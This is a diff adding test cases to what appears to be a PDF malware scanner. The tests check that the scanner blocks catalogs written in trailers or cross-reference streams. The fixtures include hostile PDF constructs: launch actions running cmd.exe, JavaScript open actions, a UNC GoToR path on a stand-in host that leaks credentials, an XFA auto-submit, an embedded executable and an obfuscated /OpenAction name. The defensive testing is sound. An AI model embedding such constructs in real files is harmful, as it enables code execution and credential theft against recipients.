@@ -111,6 +111,45 @@ describe("another action is found", () => {
   })
 })
 
+describe("a catalog that is written directly in a trailer", () => {
+  const inTrailer = (catalog: string, objects = ""): Uint8Array =>
+    Buffer.from(`%PDF-1.7\n${objects}trailer<</Root<</Type/Catalog${catalog}>>>>\nstartxref\n0\n%%EOF\n`, "latin1")
+  const inTable = (catalog: string, objects = ""): Uint8Array =>
+    Buffer.from(
+      `%PDF-1.7\n${objects}${stream(9, `/Type/XRef/Size 1/W[1 1 1]/Root<</Type/Catalog${catalog}>>`, "\0\0\0")}%%EOF\n`,
+      "latin1"
+    )
+  const pages = "2 0 obj<</Type/Pages/Kids[3 0 R]/Count 1>>endobj 3 0 obj<</Type/Page/Parent 2 0 R>>endobj "
+  const xfa = "/AcroForm<</XFA 4 0 R>>"
+  const form = stream(4, "", "<xdp><event activity=\"docReady\"><submit target=\"http://192.0.2.7/\"/></event></xdp>")
+
+  it.each([["trailer", inTrailer], ["cross-reference stream", inTable]] as const)("is read in a %s", (where, made) => {
+    expect(rate(made("/OpenAction<</S/Launch/F(cmd.exe)>>"))).toEqual(["block", "LAUNCH_ACTION"])
+    expect(rate(made(`/Pages 2 0 R/OpenAction${script}`, pages))).toEqual(["block", "JAVASCRIPT"])
+    expect(rate(made(`/Names<</JavaScript<</Names[(a)${script}]>>>>`))).toEqual(["block", "JAVASCRIPT"])
+    expect(rate(made("/AA<</WC<</S/GoToR/F(\\\\\\\\call.example\\\\a.pdf)>>>>"))).toEqual([
+      "block",
+      "CREDENTIAL_LEAK_PATH"
+    ])
+    expect(rate(made("/#4fpenAction<</S/Launch/F(cmd.exe)>>"))[0], where).toBe("block")
+    expect(rate(made(xfa, form))).toEqual(["block", "AUTO_ACTION"])
+    const attached = "/Names<</EmbeddedFiles<</Names[(a)<</Type/Filespec/F(a.exe)/EF<</F 5 0 R>>>>]>>>>"
+    expect(rate(made(attached, stream(5, "", "MZ")))).toEqual(["block", "EMBEDDED_EXECUTABLE"])
+  })
+
+  it("is found in any trailer, and named", () => {
+    const first = Buffer.from(inTrailer("/OpenAction<</S/Launch/F(cmd.exe)>>"))
+    const both = Buffer.concat([first, Buffer.from("1 0 obj<</Type/Catalog>>endobj trailer<</Root 1 0 R>>")])
+    expect(rate(both)).toEqual(["block", "LAUNCH_ACTION"])
+    expect(rate(Buffer.from("%PDF-1.7\n trailer<</Root 1 0 R>>"))[0]).toBe("unreadable")
+  })
+
+  it("is ordinary where nothing in it does anything", () => {
+    expect(rate(inTrailer("/Pages 2 0 R/OpenAction[3 0 R/Fit]", pages))[0]).toBe("ok")
+    expect(rate(inTable("/Pages 2 0 R", pages))[0]).toBe("ok")
+  })
+})
+
 describe("what is nearly the same is no evasion", () => {
   it.each([
     ["a page number in a comment", pdf("%1 0 page\n1 0 obj<</Type/Catalog>>endobj")],
